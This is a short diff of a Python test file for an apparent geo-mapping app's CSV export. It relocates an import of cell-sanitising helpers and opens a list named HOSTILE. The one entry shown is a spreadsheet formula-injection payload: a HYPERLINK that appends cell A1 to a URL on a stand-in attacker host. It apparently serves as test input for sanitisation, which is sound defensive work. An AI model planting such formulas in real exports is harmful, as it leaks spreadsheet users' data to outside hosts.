@@ -16,8 +16,8 @@ from shapes import grid_centers, grid_zones, nine_districts
 from staff import Staff
 
 from geoapp.cli import main
+from geoapp.exports.spreadsheet_csv import csv_bytes, frame_csv_bytes, safe_cell, unquoted
 from geoapp.layers import CENTERS, DISTRICTS, SCHOOL_ZONES
-from geoapp.spreadsheet_csv import csv_bytes, frame_csv_bytes, safe_cell, unquoted
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"詳細")',
